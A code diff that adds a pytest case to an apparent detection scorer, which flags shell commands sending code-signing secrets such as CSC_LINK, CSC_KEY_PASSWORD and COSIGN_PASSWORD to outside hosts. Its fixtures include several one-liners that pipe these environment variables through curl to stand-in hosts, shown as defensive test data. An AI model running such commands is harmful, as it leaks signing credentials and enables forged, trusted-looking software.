@@ -105,3 +105,21 @@ def test_the_maker_of_a_security_product_is_distrusted(line: str, found: bool, s
 def test_what_the_commands_of_a_pipe_do_together(text: str, indicator: str, found: bool, scorer: Scorer) -> None:
     verdict = scorer.assess({"EventCode": "1", "CommandLine": text})
     assert (indicator in (verdict["codesign_indicators"] or ())) is found
+
+
+@pytest.mark.parametrize(
+    ("text", "sent"),
+    [
+        ("env | grep -E CSC_LINK | curl -s -d @- https://203.0.113.5/", True),
+        ("printenv CSC_KEY_PASSWORD | curl -s -d @- https://203.0.113.5/", True),
+        ("printenv | grep COSIGN_PASSWORD | base64 -w0 | curl -T - https://drop.example/", True),
+        # shown, other names, sent without them, set for a command
+        ("env | grep CSC_LINK", False),
+        ("env | grep PATH | curl -s -d @- https://203.0.113.5/", False),
+        ("env | curl -s -d @- https://203.0.113.5/", False),
+        ("env CSC_LINK=a.p12 electron-builder; curl -d @report.json https://ci.example/", False),
+    ],
+)
+def test_secrets_of_signing_out_of_the_environment(text: str, sent: bool, scorer: Scorer) -> None:
+    verdict = scorer.assess({"EventCode": "1", "Image": "/bin/sh", "CommandLine": f"sh -c '{text}'"})
+    assert ("signing_secrets_sent" in (verdict["codesign_indicators"] or ())) is sent
